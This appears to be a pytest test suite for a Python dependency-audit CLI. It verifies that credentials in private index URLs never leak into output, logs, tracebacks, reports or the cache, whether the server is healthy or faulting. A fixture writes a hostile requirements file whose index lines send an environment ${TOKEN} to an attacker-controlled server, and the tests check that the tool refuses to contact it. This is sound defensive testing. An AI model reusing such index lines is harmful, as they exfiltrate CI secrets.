"""A private index token never leaks: not to stdout, stderr, a report, a log record, an error or the disk.

Every endpoint is configured with ``user:s3cr3t-TOKEN@`` (the form a private index or proxy takes)
and the commands run with the loopback server healthy and under faults (401, 403, 500, refused,
DNS failure, timeout, redirect to another host). The sweep captures everything the process says:
stdout, stderr, every report format written, every ``logging`` record at DEBUG from every logger
(httpx logs request URLs; stamina logs retries), the text of any exception, and the cache and data
directories. Report renderers on their own are covered in tests/report; this covers the whole run.
"""

from __future__ import annotations

import base64
import json
import logging
import os
import traceback
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from supplychain.cli import main
from tests.sources.pypi_support import PYPI_FIXTURES
from tests.support.faults import FaultServer, RecordingServer, closed_port
from tests.support.osv_api import OsvApi
from tests.support.pep740 import serve_pep740_pages
from tests.support.server import Reply
from tests.test_audit_faults import (
    ENDPOINTS,
    PINS,
    PYPISTATS,
    TIMEOUT,
    install_popularity_without_six,
    osv_records,
    shrink_network_limits,
)

USER = "ci-robot"
TOKEN = "s3cr3t-TOKEN"
# What an Authorization header or a log of one would carry instead of the raw token.
BASIC = base64.b64encode(f"{USER}:{TOKEN}".encode()).decode()
SECRETS = (TOKEN, BASIC, "s3cr3t")
ALL_FORMATS = "json,sarif,cyclonedx,markdown,html"


@dataclass
class Captured:
    """Everything one command let out."""

    code: int
    out: str
    err: str
    logs: list[str] = field(default_factory=list)
    exception: str = ""

    def text(self) -> str:
        return "\n".join([self.out, self.err, *self.logs, self.exception])


@dataclass
class Setup:
    server: FaultServer
    root: Path
    elsewhere: RecordingServer


@pytest.fixture
def setup(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Setup]:
    server = FaultServer()
    server.start()
    other = RecordingServer()
    with other:
        server.mount("/", PYPI_FIXTURES)
        OsvApi(osv_records()).install(server)
        for name, document in PYPISTATS.items():
            server.json(f"/pypistats/api/packages/{name}/recent", document)
        credentialed = server.url.replace("://", f"://{USER}:{TOKEN}@")
        for endpoint in ENDPOINTS.values():
            monkeypatch.setenv(endpoint.env, credentialed + endpoint.base)
        shrink_network_limits(monkeypatch)
        install_popularity_without_six(Path(os.environ["SUPPLYCHAIN_DATA_DIR"]), tmp_path)
        monkeypatch.chdir(tmp_path)
        (tmp_path / "requirements.txt").write_text(PINS)
        (tmp_path / "sl5.toml").write_text('extends = "sl5"\nmax_popularity_age_days = 365\n')
        try:
            yield Setup(server=server, root=tmp_path, elsewhere=other)
        finally:
            server.stop()


def execute(
    args: list[str], capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> Captured:
    """Run the console entry point with every logger at DEBUG; keep whatever escapes, exceptions too."""
    caplog.clear()
    caplog.set_level(logging.DEBUG)  # the root logger: every library's records propagate to it
    code, exception = 0, ""
    try:
        main(args)
    except SystemExit as exited:
        code = exited.code if isinstance(exited.code, int) else 0
    except BaseException as error:
        code, exception = -1, "".join(traceback.format_exception(error))
    streams = capsys.readouterr()
    logs = []
    for record in caplog.records:
        logs.append(record.getMessage())
        logs.append(repr(record.args))
        logs.append(repr(getattr(record, "__dict__", {})))
        if record.exc_info and record.exc_info[1] is not None:
            logs.append("".join(traceback.format_exception(record.exc_info[1])))
    return Captured(code=code, out=streams.out, err=streams.err, logs=logs, exception=exception)


def assert_no_secret(captured: Captured, *files: Path) -> None:
    text = captured.text()
    for secret in SECRETS:
        assert secret not in text, f"{secret!r} leaked:\n" + _around(text, secret)
    for path in files:
        data = path.read_bytes()
        for secret in SECRETS:
            assert secret.encode() not in data, f"{secret!r} leaked into {path}"


def _around(text: str, secret: str) -> str:
    at = text.find(secret)
    return text[max(0, at - 300) : at + 100]


def all_files(*roots: Path) -> list[Path]:
    return sorted(p for root in roots if root.exists() for p in root.rglob("*") if p.is_file())


# Hand-made uv.lock whose registry is the credentialed index (files and hashes copied from the
# recorded Simple pages); the reader keeps each package's index URL as its origin.
UV_LOCK = """version = 1
revision = 3
requires-python = ">=3.10"

[[package]]
name = "proj"
version = "0.1.0"
source = {{ virtual = "." }}
dependencies = [{{ name = "requests" }}, {{ name = "six" }}]

[[package]]
name = "requests"
version = "2.25.1"
source = {{ registry = "{index}" }}
wheels = [
    {{ url = "{files}/29/c1/24814557f1d22c56d50280771a17307e6bf87b70727d975fd6b2ce6b014a/\
requests-2.25.1-py2.py3-none-any.whl", \
hash = "sha256:c210084e36a42ae6b9219e00e48287def368a26d03a048ddad7bfee44f75871e", size = 61216 }},
]

[[package]]
name = "six"
version = "1.17.0"
source = {{ registry = "{index}" }}
wheels = [
    {{ url = "{files}/b7/ce/149a00dd41f10bc29e5921b496af8b574d8413afcd5e30dfa0ed46c2cc5e/\
six-1.17.0-py2.py3-none-any.whl", \
hash = "sha256:4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274", size = 11050 }},
]
"""

SCENARIOS = ["healthy", "401", "403", "500", "timeout", "redirect-other-host", "refused", "dns"]


def apply(scenario: str, setup: Setup, monkeypatch: pytest.MonkeyPatch) -> None:
    """Make every endpoint misbehave the same way (keeping the credentials in each URL)."""
    if scenario in {"refused", "dns"}:
        host = f"127.0.0.1:{closed_port()}" if scenario == "refused" else "private-index.invalid"
        for endpoint in ENDPOINTS.values():
            monkeypatch.setenv(endpoint.env, f"http://{USER}:{TOKEN}@{host}{endpoint.base}")
        return
    replies = {
        "401": Reply(401, b'{"message": "Unauthorized"}', {"WWW-Authenticate": 'Basic realm="pypi"'}),
        "403": Reply(403, b'{"message": "Forbidden"}'),
        "500": Reply(500, b"oops"),
        "timeout": Reply(200, b"{}", delay=TIMEOUT * 4),
        "redirect-other-host": Reply(302, b"", {"Location": setup.elsewhere.url + "/stolen"}),
    }
    if scenario in replies:
        reply = replies[scenario]
        setup.server.fault("/", lambda: reply)


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_audit_in_every_format_leaks_no_credential(
    scenario: str,
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    apply(scenario, setup, monkeypatch)
    out_dir = setup.root / "reports"
    args = ["audit", "requirements.txt", "--no-deps", "--policy", "sl5.toml"]
    # --debug: an error would escape as a traceback (its text is checked too) instead of a message.
    captured = execute([*args, "--format", ALL_FORMATS, "--output", str(out_dir), "--debug"], capsys, caplog)
    assert captured.code in {1, 3}, captured.text()[-3000:]
    assert captured.exception == ""
    reports = all_files(out_dir)
    assert sorted(p.suffix for p in reports) == [".html", ".json", ".json", ".md", ".sarif"], reports
    disk = all_files(Path(os.environ["SUPPLYCHAIN_CACHE_DIR"]), Path(os.environ["SUPPLYCHAIN_DATA_DIR"]))
    assert_no_secret(captured, *reports, *disk)
    assert captured.logs, "no log record was captured: the sweep would prove nothing"
    # The host did see the credentials (they are used, not dropped), and nothing else did.
    if scenario not in {"refused", "dns"}:
        assert any(h.get("Authorization") == f"Basic {BASIC}" for h in setup.server.headers_seen)
    assert setup.elsewhere.seen == []
    # The reports name the index, masked, so a reader still knows which one was used.
    if scenario == "healthy":
        assert "***@127.0.0.1" in (out_dir / "supplychain.json").read_text()


@pytest.mark.parametrize("scenario", ["healthy", "401", "500", "refused"])
def test_audit_terminal_and_single_format_stdout_leak_nothing(
    scenario: str,
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Without --output the report goes to stdout, and the terminal summary lists unknown reasons."""
    apply(scenario, setup, monkeypatch)
    base = ["audit", "requirements.txt", "--no-deps", "--policy", "sl5.toml"]
    for extra in ([], ["--format", "json"], ["--format", "html"], ["--format", "cyclonedx"]):
        captured = execute([*base, *extra], capsys, caplog)
        assert captured.code in {1, 3}, captured.text()[-3000:]
        assert_no_secret(captured)
        if scenario != "healthy" and not extra:
            assert "Unknown facts" in captured.out  # the reasons (with URLs) were printed, masked


@pytest.mark.parametrize("scenario", ["healthy", "401", "500", "refused", "redirect-other-host"])
def test_explain_leaks_no_credential(
    scenario: str,
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    apply(scenario, setup, monkeypatch)
    for args in (["explain", "six==1.17.0"], ["explain", "six==1.17.0", "--format", "json"]):
        captured = execute(args, capsys, caplog)
        assert captured.code == 0, captured.text()[-3000:]
        assert_no_secret(captured)
        if scenario != "healthy" and "json" in args:
            assert '"unknown": "' in captured.out  # the reasons (with the URLs) were printed, masked
    # Without a version, explain asks PyPI for the latest: under a fault that is an error message.
    captured = execute(["explain", "six"], capsys, caplog)
    assert captured.code == (0 if scenario == "healthy" else 3), captured.text()[-3000:]
    assert_no_secret(captured)
    if scenario != "healthy":
        assert captured.err.startswith("error: six: no version given")
    # --debug turns errors into tracebacks: their text (and chained causes) must be clean too.
    captured = execute(["explain", "six", "--debug"], capsys, caplog)
    assert_no_secret(captured)
    if scenario != "healthy":
        assert "DataUnavailableError" in captured.exception


@pytest.mark.parametrize("scenario", ["healthy", "401", "500", "refused", "timeout"])
def test_tree_leaks_no_credential(
    scenario: str,
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``tree`` of pins (no fetch) and ``tree`` resolving over the credentialed index."""
    apply(scenario, setup, monkeypatch)
    index = os.environ["SUPPLYCHAIN_INDEX_URL"]
    for args in (
        ["tree", "requirements.txt", "--no-deps", "--index-url", index],
        ["tree", "requirements.txt", "--no-deps", "--format", "json", "--index-url", index],
    ):
        captured = execute(args, capsys, caplog)
        assert captured.code == 0, captured.text()[-3000:]
        assert_no_secret(captured)
    (setup.root / "six.txt").write_text("six==1.17.0\n")
    for args in (
        ["tree", "six.txt", "--index-url", index],
        ["tree", "six.txt", "--format", "json", "--debug"],
    ):
        captured = execute(args, capsys, caplog)
        assert_no_secret(captured, *all_files(Path(os.environ["SUPPLYCHAIN_CACHE_DIR"])))
        if "--debug" in args:
            assert captured.code == -1, captured.text()[-3000:]  # the error escapes, as a traceback
            assert "could not read the index" in captured.exception
            continue
        # The recorded page's wheel lives on files.pythonhosted.org, which tests cannot reach;
        # under a fault the index itself fails. Either way: data unavailable, exit 3, masked URL.
        assert captured.code == 3, captured.text()[-3000:]
        assert captured.err.startswith("error: could not read the index: "), captured.err
        if scenario != "healthy":
            assert "http://***@127.0.0.1:" in captured.err, captured.err


@pytest.mark.parametrize("scenario", ["healthy", "401", "500", "refused"])
def test_credentials_given_as_flags_or_in_a_lock_leak_nowhere(
    scenario: str,
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Flags (``--index-url``, ``--extra-index-url``), a requirements-file option line, a uv.lock registry."""
    apply(scenario, setup, monkeypatch)
    index = os.environ["SUPPLYCHAIN_INDEX_URL"]
    (setup.root / "with-index.txt").write_text(f"--extra-index-url {index}\n{PINS}")
    files = "https://files.pythonhosted.org/packages"
    (setup.root / "uv.lock").write_text(UV_LOCK.format(index=index.rstrip("/"), files=files))
    out_dir = setup.root / "reports"
    runs = [
        ["audit", "requirements.txt", "--no-deps", "--index-url", index, "--extra-index-url", index],
        ["audit", "with-index.txt", "--no-deps"],
        ["audit", "uv.lock"],
        ["tree", "uv.lock"],
        ["tree", "uv.lock", "--format", "json"],
    ]
    for args in runs:
        extra = ["--policy", "sl5.toml", "--format", ALL_FORMATS, "--output", str(out_dir)]
        captured = execute(args + (extra if args[0] == "audit" else []), capsys, caplog)
        expected = {0} if args[0] == "tree" else {1, 3}
        assert captured.code in expected, (args, captured.text()[-3000:])
        assert_no_secret(captured, *all_files(out_dir))
        if args[0] == "audit":
            document = (out_dir / "supplychain.json").read_text()
            assert "***@127.0.0.1" in document  # the index is named, masked


@pytest.mark.parametrize("scenario", ["healthy", "500", "refused"])
def test_credentials_in_the_configuration_file_leak_nowhere(
    scenario: str,
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Endpoints and a PostgreSQL inventory URL with a password, from ``supplychain.toml``."""
    apply(scenario, setup, monkeypatch)
    endpoints = {}
    for name, endpoint in ENDPOINTS.items():
        if name != "osv-vulns":
            key = endpoint.env.removeprefix("SUPPLYCHAIN_").removesuffix("_URL").lower()
            endpoints[key] = os.environ[endpoint.env]
            monkeypatch.delenv(endpoint.env)
    table = ", ".join(f'{key} = "{url}"' for key, url in sorted(endpoints.items()))
    inventory = f"postgresql://{USER}:{TOKEN}@127.0.0.1:{closed_port()}/inventory"
    (setup.root / "supplychain.toml").write_text(
        f'policy = "sl5.toml"\ninternal-patterns = ["six"]\ninventory-db = "{inventory}"\n'
        f"endpoints = {{ {table} }}\n"
    )
    out_dir = setup.root / "reports"
    args = ["audit", "requirements.txt", "--no-deps", "--format", ALL_FORMATS, "--output", str(out_dir)]
    captured = execute(args, capsys, caplog)
    assert captured.code in {1, 3}, captured.text()[-3000:]
    assert_no_secret(captured, *all_files(out_dir))
    document = (out_dir / "supplychain.json").read_text()
    assert "internal_usage" in document  # six is internal, so the inventory was asked (and failed)
    assert "***@127.0.0.1" in document
    if scenario != "refused":
        assert any(h.get("Authorization") == f"Basic {BASIC}" for h in setup.server.headers_seen)


def test_audit_against_a_private_index_whose_answers_are_public_stores_no_credential(
    setup: Setup, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    """``Cache-Control: public`` lets the cache store authenticated answers: the token stays out of it."""
    setup.server.cache_control = "public, max-age=3600"
    args = ["audit", "requirements.txt", "--no-deps", "--policy", "sl5.toml", "--format", "json"]
    cold = execute(args, capsys, caplog)
    sent = len(setup.server.requests)
    warm = execute(args, capsys, caplog)
    assert cold.code in {1, 3}, cold.text()[-3000:]
    assert warm.code == cold.code
    assert len(setup.server.requests) - sent < sent  # the warm run was answered from the cache
    assert any(h.get("Authorization") == f"Basic {BASIC}" for h in setup.server.headers_seen)
    cache = all_files(Path(os.environ["SUPPLYCHAIN_CACHE_DIR"]))
    assert any(p.name.startswith("http-cache.sqlite") for p in cache)
    assert_no_secret(warm, *cache)


ENV_SECRET = "env-S3CRET-value"


def _file_naming_evil_indexes(setup: Setup, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A pull request's requirements file sending ``${TOKEN}`` to its own index, in userinfo and path."""
    monkeypatch.setenv("TOKEN", ENV_SECRET)
    evil = setup.elsewhere.url
    path = setup.root / "pr-requirements.txt"
    path.write_text(
        f"--index-url {evil.replace('://', '://${TOKEN}@')}/simple/\n"
        f"--extra-index-url {evil}/${{TOKEN}}/simple/\n{PINS}"
    )
    return path


def test_sl5_never_asks_an_index_only_the_audited_file_names_nor_prints_its_expanded_token(
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    path = _file_naming_evil_indexes(setup, monkeypatch)
    # API 1.4 pages (PEP 740/792 facts known), so the refused indexes decide the verdict, not unknowns
    serve_pep740_pages(setup.server, lambda _project, _filename: None)
    out_dir = setup.root / "reports"
    args = ["audit", str(path), "--no-deps", "--policy", "sl5.toml", "--format", ALL_FORMATS]
    captured = execute([*args, "--output", str(out_dir)], capsys, caplog)
    assert captured.code == 1, captured.text()[-3000:]
    assert setup.elsewhere.seen == []  # not a single request, so not the token either
    text = captured.text() + "".join(p.read_text() for p in all_files(out_dir))
    assert ENV_SECRET not in text
    document = json.loads((out_dir / "supplychain.json").read_text())
    refused = [f for f in document["findings"] if f["rule"] == "untrusted-source" and not f["package"]]
    assert sorted(f["evidence"]["index"] for f in refused) == sorted(
        [
            f"{setup.elsewhere.url}/${{TOKEN}}/simple/",
            setup.elsewhere.url.replace("://", "://***@") + "/simple/",
        ]
    )
    assert {f["action"] for f in refused} == {"fail"}


def test_below_sl4_a_file_named_index_taking_an_env_value_is_not_asked_nor_the_value_printed(
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """SL1-SL3 ask a file's own indexes as pip would, but never send one a value from the environment."""
    path = _file_naming_evil_indexes(setup, monkeypatch)
    args = ["audit", str(path), "--no-deps", "--policy", "sl3", "--format", "json", "--debug"]
    captured = execute(args, capsys, caplog)
    assert captured.code == 1, captured.text()[-3000:]
    assert setup.elsewhere.seen == []
    assert ENV_SECRET not in captured.text()
    refused = [f for f in json.loads(captured.out)["findings"] if f["rule"] == "untrusted-source"]
    assert f"{setup.elsewhere.url}/${{TOKEN}}/simple/" in {f["evidence"].get("index") for f in refused}


def test_below_sl4_a_file_named_index_without_env_values_is_asked_as_pip_would(
    setup: Setup,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    path = setup.root / "pr-requirements.txt"
    path.write_text(f"--index-url {setup.elsewhere.url}/simple/\n{PINS}")
    for level, asked in (("sl3", True), ("sl4", False)):
        setup.elsewhere.seen.clear()
        captured = execute(
            ["audit", str(path), "--no-deps", "--policy", level, "--format", "json"], capsys, caplog
        )
        assert captured.code in {1, 3}, captured.text()[-3000:]
        assert bool(setup.elsewhere.seen) is asked, level
